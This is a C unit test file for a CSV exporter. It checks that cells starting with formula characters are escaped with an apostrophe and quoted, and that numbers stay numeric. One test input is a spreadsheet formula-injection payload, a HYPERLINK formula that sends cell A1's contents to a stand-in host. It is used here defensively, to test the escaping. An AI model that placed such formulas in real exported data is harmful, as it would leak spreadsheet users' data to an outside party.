/* Cells of CSV: case 060 (formulas), and what RFC 4180 asks for. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <math.h>
#include <string.h>

#include "server/base/mem.h"
#include "server/record/csv.h"

static void test_texts(void **state)
{
    static const struct {
        const char *text, *cell;
    } rows[] = {
        {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"go\")",
         "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"go\"\")\""},
        {"+1-555", "'+1-555"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\t=1+1", "\"'\t=1+1\""},
        {"\r=1+1", "\"'\r=1+1\""},
        {"a,b \"c\"\nd", "\"a,b \"\"c\"\"\nd\""},
        {"\xe2\x80\x8b=1+1", "'\xe2\x80\x8b=1+1"},
        {"  =1", "\"'  =1\""},
        {"\n=1", "\"'\n=1\""},
        {"\xc2\xa0-1", "'\xc2\xa0-1"},
        {"\xef\xbb\xbf@x", "'\xef\xbb\xbf@x"},
        {"\xef\xbc\x9d"
         "1",
         "'\xef\xbc\x9d"
         "1"},
        {"plain", "plain"},
        {"a=b", "a=b"},
        {"", ""},
        {" ", "\" \""},
        {"-", "'-"},
        {"docker x1/10-20", "docker x1/10-20"},
        {"end ", "\"end \""},
    };

    for (size_t i = 0; i < WB_LEN(rows); i++) {
        struct wb_buf b = WB_BUF_INIT(4096);

        wb_csv_text(rows[i].text, &b);
        assert_string_equal(wb_buf_str(&b), rows[i].cell);
        wb_buf_release(&b);
    }
}

/* Numbers are never made text, negative ones least of all. */
static void test_numbers(void **state)
{
    static const struct {
        double value;
        const char *cell;
    } rows[] = {{-3.2, "-3.2"}, {-0.01, "-0.01"}, {-1e-07, "-1e-07"}, {4, "4.0"}, {NAN, ""}};
    struct wb_buf b = WB_BUF_INIT(4096);

    for (size_t i = 0; i < WB_LEN(rows); i++) {
        WB_AUTO_JSON wb_json *v = wb_json_real(rows[i].value);

        wb_buf_clear(&b);
        wb_csv_cell(v, &b);
        assert_string_equal(wb_buf_str(&b), rows[i].cell);
    }
    WB_AUTO_JSON wb_json *whole = wb_json_int(-7);
    WB_AUTO_JSON wb_json *no = wb_json_bool(false);
    WB_AUTO_JSON wb_json *list = wb_json_array();

    wb_buf_clear(&b);
    wb_csv_cell(whole, &b);
    wb_csv_cell(no, &b);
    wb_csv_cell(list, &b);
    wb_csv_cell(NULL, &b);
    assert_string_equal(wb_buf_str(&b), "-7false");
    wb_buf_release(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_texts),
        cmocka_unit_test(test_numbers),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
